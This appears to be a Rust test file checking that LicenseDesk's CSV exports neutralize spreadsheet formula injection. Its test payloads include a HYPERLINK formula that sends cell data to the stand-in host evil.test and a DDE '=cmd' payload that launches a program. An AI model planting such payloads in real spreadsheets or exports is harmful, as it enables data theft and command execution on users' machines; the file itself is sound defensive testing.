//! Every CSV LicenseDesk writes, as a spreadsheet would open it: formula payloads and the whole
//! hostile corpus go into the users, audit, billing and user-data exports (and the safety
//! archive), and no cell comes out that a spreadsheet would execute.

use std::collections::HashMap;
use std::io::Read;
use std::sync::Arc;

use crate::base::clock::ManualClock;
use crate::base::csv_cell::is_live_formula;
use crate::kernel::org::Org;
use crate::tests::hostile_input::corpus;
use crate::tests::testing::{demo_org, sign_in, user_with_all_data};
use crate::{AuditQuery, SeatChange, Unwatched};

/// Cells a spreadsheet executes or uses to reach the network, and a number that starts like one.
pub(crate) const FORMULAS: [&str; 9] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+15125550123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
];

/// The formula payloads, then the hostile corpus.
fn payloads() -> Vec<String> {
    FORMULAS
        .iter()
        .map(|f| f.to_string())
        .chain(corpus().into_iter().map(|(_, v)| v))
        .collect()
}

/// Panics naming the first cell a spreadsheet would execute; returns the cells.
pub(crate) fn assert_spreadsheet_safe(what: &str, csv: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv);
    let mut cells = Vec::new();
    for (row, record) in reader.records().enumerate() {
        for cell in record.unwrap().iter() {
            assert!(!is_live_formula(cell), "{what}, row {}: {cell:?}", row + 1);
            cells.push(cell.to_owned());
        }
    }
    cells
}

fn org_with_clock() -> (tempfile::TempDir, Org, ManualClock) {
    let dir = tempfile::tempdir().unwrap();
    let clock = ManualClock::new(chrono::Utc::now());
    let org = Org::open(&dir.path().join("org.sqlite"), Arc::new(clock.clone())).unwrap();
    (dir, org, clock)
}

fn read_zip(path: &std::path::Path) -> HashMap<String, Vec<u8>> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut f = zip.by_index(i).unwrap();
            let mut bytes = Vec::new();
            f.read_to_end(&mut bytes).unwrap();
            (f.name().unwrap().to_string(), bytes)
        })
        .collect()
}

fn assert_zip_csvs_safe(what: &str, path: &std::path::Path) -> Vec<String> {
    let mut cells = Vec::new();
    for (name, bytes) in read_zip(path) {
        if name.ends_with(".csv") {
            cells.extend(assert_spreadsheet_safe(&format!("{what} {name}"), &bytes));
        }
    }
    cells
}

#[test]
fn the_audit_export_neutralizes_account_names_mistyped_at_sign_in() {
    let (dir, mut org, clock) = org_with_clock();
    let mut typed = Vec::new();
    for value in payloads() {
        if let Err(e) = org.sign_in(&value, "wrong password") {
            // Refused before the log (empty, too long) with the field named, or logged as typed.
            if e.payload().field.is_none() {
                typed.push(value.trim().to_owned());
            }
        }
        clock.advance(chrono::Duration::hours(1));
    }
    assert!(typed.len() > FORMULAS.len());
    let auditor = sign_in(&mut org, "max.weber");
    let dest = dir.path().join("audit.csv");
    org.export_audit_log(auditor, &AuditQuery::default(), &dest)
        .unwrap();
    let cells = assert_spreadsheet_safe("audit export", &std::fs::read(&dest).unwrap());
    for login in &typed {
        let written = crate::base::csv_cell::neutralize(login);
        assert!(cells.contains(&written.into_owned()), "{login:?}");
    }
    assert!(cells.contains(&"'=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")".to_owned()));
}

#[test]
fn the_billing_export_neutralizes_product_and_account_names_from_the_file() {
    let (dir, mut org) = demo_org();
    let billing = sign_in(&mut org, "lee.chen");
    let product = "Meetings Plus";
    let id = crate::tests::testing::product_id(&org, product);
    org.purchase_licenses(
        billing,
        &SeatChange {
            product_id: id,
            quantity: "1".into(),
        },
    )
    .unwrap();
    let dest = dir.path().join("billing.csv");
    for value in payloads() {
        // An organization file from elsewhere may hold any text its schema's checks allow.
        let renamed = org.conn().execute(
            "UPDATE products SET name = ?1 WHERE id = ?2",
            rusqlite::params![value, id],
        );
        let signed = org.conn().execute(
            "UPDATE accounts SET display_name = ?1 WHERE login = 'lee.chen'",
            [&value],
        );
        if let Err(e) = renamed.and(signed) {
            assert!(e.to_string().contains("CHECK constraint"), "{value:?}: {e}");
            continue;
        }
        org.export_billing_history(billing, &dest).unwrap();
        let cells = assert_spreadsheet_safe("billing export", &std::fs::read(&dest).unwrap());
        let expected = crate::base::csv_cell::neutralize(&value).into_owned();
        assert!(cells.contains(&expected), "{value:?}");
    }
    // Amounts that are negative are kept as text too.
    let cells = assert_spreadsheet_safe("billing export", &std::fs::read(&dest).unwrap());
    assert!(cells.iter().all(|c| !c.starts_with('-')));
}

#[test]
fn user_data_zips_and_safety_archives_neutralize_every_csv_cell() {
    let (dir, mut org) = demo_org();
    let admin = sign_in(&mut org, "dana.reyes");
    let user = user_with_all_data(&org);
    for (i, value) in payloads().iter().enumerate() {
        org.conn()
            .execute(
                "INSERT INTO call_history (user_id, started_at, direction, remote_number,
                     duration_seconds)
                 VALUES (?1, ?2, 'inbound', ?3, ?4)",
                rusqlite::params![user.id, value, value, i as i64],
            )
            .unwrap();
    }
    let dest = dir.path().join("export.zip");
    org.export_user_data(admin, user.id, &dest, &mut Unwatched)
        .unwrap();
    let cells = assert_zip_csvs_safe("user-data export", &dest);
    assert!(cells.contains(&"'=cmd|' /C calc'!A0".to_owned()));
    assert!(cells.contains(&"'+15125550123".to_owned()));
    let user = crate::domain::users::directory::user_detail(org.conn(), user.id).unwrap();
    let receipt = org
        .remove_license(
            admin,
            &crate::domain::licenses::removal::RemoveLicense::of(&user),
        )
        .unwrap();
    let cells = assert_zip_csvs_safe(
        "safety archive",
        std::path::Path::new(&receipt.safety_archive.path),
    );
    assert!(cells.contains(&"'@SUM(A1:A9)".to_owned()));
}

/// A users file whose names and departments are formula payloads and hostile values: each row
/// is refused with its column named, or imported; the export of the result holds no live
/// formula, and importing it again changes nothing.
#[test]
fn users_imported_with_formula_names_export_as_text_and_import_back_unchanged() {
    let (_dir, mut org) = demo_org();
    let admin = sign_in(&mut org, "dana.reyes");
    let rows: Vec<[String; 5]> = payloads()
        .into_iter()
        .enumerate()
        .flat_map(|(i, v)| {
            [
                [
                    v.clone(),
                    "Formula".into(),
                    format!("first{i}@example.com"),
                    String::new(),
                    "Austin".into(),
                ],
                [
                    "Dee".into(),
                    v,
                    format!("dept{i}@example.com"),
                    "=1+1".into(),
                    "Austin".into(),
                ],
            ]
        })
        .collect();
    // The file as another program wrote it: no neutralizing.
    let file = |rows: &[[String; 5]]| {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record(["First name", "Last name", "Email", "Department", "Site"])
            .unwrap();
        for r in rows {
            w.write_record(r).unwrap();
        }
        w.into_inner().unwrap()
    };
    let preview = org
        .import_preview(admin, &file(&rows), &Default::default(), &mut Unwatched)
        .unwrap();
    for issue in &preview.issues {
        assert!(
            ["First name", "Last name", "Email"].contains(&issue.column.as_str()),
            "{issue:?}"
        );
    }
    let refused: Vec<u32> = preview.issues.iter().map(|i| i.row).collect();
    let accepted: Vec<[String; 5]> = rows
        .into_iter()
        .enumerate()
        .filter(|(i, _)| !refused.contains(&(*i as u32 + 2)))
        .map(|(_, r)| r)
        .collect();
    assert!(accepted.len() > FORMULAS.len(), "{:?}", preview.issues);
    org.import_users(admin, &file(&accepted), &Default::default(), &mut Unwatched)
        .unwrap();
    let stored: String = org
        .conn()
        .query_row(
            "SELECT first_name FROM users WHERE email = 'first0@example.com'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(stored, "=1+1");

    let export = org.export_users_csv(admin).unwrap();
    let cells = assert_spreadsheet_safe("users export", &export);
    assert!(cells.contains(&"'=1+1".to_owned()));
    assert!(cells.iter().any(|c| c.starts_with("'+1")), "phone numbers");
    let tables = ["users", "seats", "phone_numbers"];
    let before = crate::tests::testing::snapshot(&org, &tables);
    let again = org
        .import_preview(admin, &export, &Default::default(), &mut Unwatched)
        .unwrap();
    assert!(
        again.ready && again.new_users.is_empty() && again.changed_users.is_empty(),
        "{again:?}"
    );
    org.import_users(admin, &export, &Default::default(), &mut Unwatched)
        .unwrap();
    assert_eq!(crate::tests::testing::snapshot(&org, &tables), before);
}
